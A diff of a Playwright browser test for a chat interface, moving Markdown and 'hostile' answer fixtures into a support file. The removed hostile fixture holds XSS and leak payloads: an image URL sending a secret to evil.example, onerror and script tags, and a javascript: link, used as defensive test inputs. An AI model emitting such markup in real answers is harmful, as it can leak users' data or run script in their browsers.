@@ -4,6 +4,7 @@ import type { Browser, BrowserContext, Page } from "playwright-core";
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { type Nightjar, TOKEN } from "../support/process/nightjar.ts";
 import { ScriptedModel } from "../support/process/scripted-model.ts";
+import { HOSTILE, MARKDOWN } from "./support/answers.ts";
 import { ChatView, Gate, launchBrowser, signedIn, startScripted } from "./support/browser.ts";
 
 /** To be looked at; made anew by each run. */
@@ -28,36 +29,6 @@ beforeEach(async () => {
   context = await signedIn(browser, nightjar);
 });
 afterEach(() => context.close());
-
-const MARKDOWN = `A **bold** word, a [link](https://example.org/a) and \`code\`.
-
-- [x] done
-- [ ] open
-
-| a | b |
-| --- | --: |
-| 1 | 2 |
-
-\`\`\`python
-def answer() -> int:
-    return 42
-\`\`\`
-
-Mass and energy: $E = mc^2$, for $5 or $10.
-
-\`\`\`mermaid
-flowchart LR
-  A[Dusk] --> B[Night]
-\`\`\`
-`;
-
-const HOSTILE = `![leak](https://evil.example/leak.png?secret=1)
-
-<img src="https://evil.example/raw.png" onerror="window.broken = 1">
-<script>window.broken = 1</script>
-[run](javascript:window.broken=1) [act](/api/v1/conversations)
-
-![own](/api/v1/files/fil_1)`;
 
 describe("what an answer is made of", () => {
   it("is typeset: code in colours, formulas, tables and diagrams", async () => {
